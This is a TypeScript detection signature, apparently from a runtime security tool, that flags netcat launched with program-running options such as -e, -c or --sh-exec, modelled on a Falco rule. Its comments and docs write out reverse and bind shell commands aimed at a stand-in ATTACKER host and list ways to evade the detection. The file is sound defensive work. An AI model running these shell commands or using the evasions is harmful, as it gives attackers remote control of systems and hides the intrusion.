/**
 * SYSRAY-10 netcat_remote_code_execution: Falco's stable rule "Netcat
 * Remote Code Execution in Container" (WARNING → Severity 2; execution,
 * T1059), on hosts too (`inContainer` says where): a netcat started with
 * an option that runs a program on the connection (-e, -c; ncat's --exec,
 * --sh-exec, --lua-exec), the classic reverse or bind shell
 * (`nc -e /bin/sh ATTACKER 4444`). Judged on the exec as the kernel ran it
 * (sched_process_exec: the program's name and the argv its main receives).
 */
import type { Signature } from '../signature.js';
import { baseName, processNamed, strArg } from '../predicates.js';

const NETCATS = ['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional'];
/** Multi-call binaries whose first argument names the applet: `busybox nc -e /bin/sh ...`. */
const MULTI_CALL = ['busybox', 'toybox'];
const LONG_EXEC = /^--(exec|sh-exec|lua-exec)(=|$)/;
/** A cluster of short options in which -e or -c (both take the program as their value) appears. */
const SHORT_EXEC = /^-([A-Za-z0-9]*?)([ec])(.*)$/;

/** The option that runs a program, and that program, in a netcat's arguments (after argv[0]). */
function _execOption(args: readonly string[]): { option: string; command: string } | undefined {
  for (let i = 0; i < args.length; i++) {
    const a = args[i];
    if (a === '--') return undefined;
    const long = LONG_EXEC.exec(a);
    if (long) return { option: a.split('=')[0], command: long[2] === '=' ? a.slice(a.indexOf('=') + 1) : args[i + 1] ?? '' };
    if (a.startsWith('--')) continue;
    const short = SHORT_EXEC.exec(a);
    if (short) return { option: `-${short[2]}`, command: short[3] !== '' ? short[3] : args[i + 1] ?? '' };
  }
  return undefined;
}

export const netcatRemoteCodeExecution: Signature = {
  metadata: {
    id: 'SYSRAY-10',
    version: '1',
    name: 'Netcat Remote Code Execution',
    eventName: 'netcat_remote_code_execution',
    description: 'Netcat was started with an option that runs a program on its network connection (-e, -c, --sh-exec, --exec, --lua-exec): a reverse or bind shell that gives whoever is at the other end remote code execution. Falco\'s rule "Netcat Remote Code Execution in Container", on hosts too.',
    tags: ['linux', 'containers', 'falco'],
    properties: {
      Severity: 2,
      Category: 'execution',
      Technique: 'Command and Scripting Interpreter',
      Kubernetes_Technique: '',
      id: 'attack-pattern--7385dfaf-6886-4229-9ecd-6fd678040830',
      external_id: 'T1059',
      falco_rule: 'Netcat Remote Code Execution in Container',
    },
  },
  selects: [{ event: 'sched_process_exec', origin: 'any' }],
  doc: {
    data: [
      { name: 'option', type: 'const char *', doc: 'The option that runs a program: `-e`, `-c` (also inside a cluster such as `-lvne`), `--exec`, `--sh-exec` or `--lua-exec`.' },
      { name: 'command', type: 'const char *', doc: 'What it runs: the option\'s value (the next argument, the rest of the cluster, or after `=`).' },
      { name: 'argv', type: 'const char**', doc: 'The whole command line, as the new program received it.' },
      { name: 'inContainer', type: 'bool', doc: 'The exec was in a container (Falco\'s rule covers containers only; this signature reports hosts too).' },
    ],
    useCase: 'Netcat is installed on most Linux systems and images, and `nc -e /bin/sh ATTACKER PORT` (or `ncat --sh-exec`, `nc -c`) is the shortest reverse shell there is: an exploited web application or a command injection runs it to get an interactive shell back to the attacker, or a bind shell listening for them (`nc -lvnp 4444 -e /bin/bash`).',
    issues: 'Falco\'s rule fires in containers only and reads the command line as one string (`" -e"` anywhere for nc; `"-e "`, `"-c "`, `--exec`, `--sh-exec`, `--lua-exec` for ncat). This signature also reports hosts (`inContainer` false: a host reverse shell is no less one) and parses the arguments: -e and -c inside a cluster of short options (`-lvnpe`, which Falco\'s text match misses) count, arguments after `--` do not, and the same options are looked for in every netcat (nc, ncat, netcat, nc.openbsd, nc.traditional, and busybox or toybox called with `nc` first). '
      + 'Names are compared as Falco\'s proc.name (comm or the executed file\'s base name): a netcat copied or linked under another name (`cp /bin/nc /tmp/x`) is missed, and any program named nc with -e or -c is reported (OpenBSD\'s TLS netcat uses -c for TLS and -e for a server name: expected findings there; Debian\'s nc.openbsd refuses both). '
      + 'Evasions: reverse shells without netcat\'s exec option (`nc ATTACKER 4444 | /bin/sh | nc ...` with fifos, bash\'s /dev/tcp, socat, python, perl: see the stdio-over-socket kind of detection), and option values hidden from argv (a wrapper script that reads them from a file or the environment).',
    related: ['sched_process_exec', 'execve', 'connect', 'dup2'],
  },
  onEvent: (event) => {
    const argv = event.args.find((a) => a.spec.name === 'argv')?.value;
    const args = Array.isArray(argv) ? (argv as readonly string[]).map(String) : [];
    const pathname = strArg(event, 'pathname');
    let rest = args.slice(1);
    let named = processNamed(NETCATS, event.processName, pathname);
    if (!named && rest.length > 0 && processNamed(MULTI_CALL, event.processName, pathname)) [named, rest] = [NETCATS.includes(baseName(rest[0])), rest.slice(1)];
    if (!named) return undefined;
    const found = _execOption(rest);
    if (!found) return undefined;
    return { data: { option: found.option, command: found.command, argv: args, inContainer: event.containerId !== '' } };
  },
};
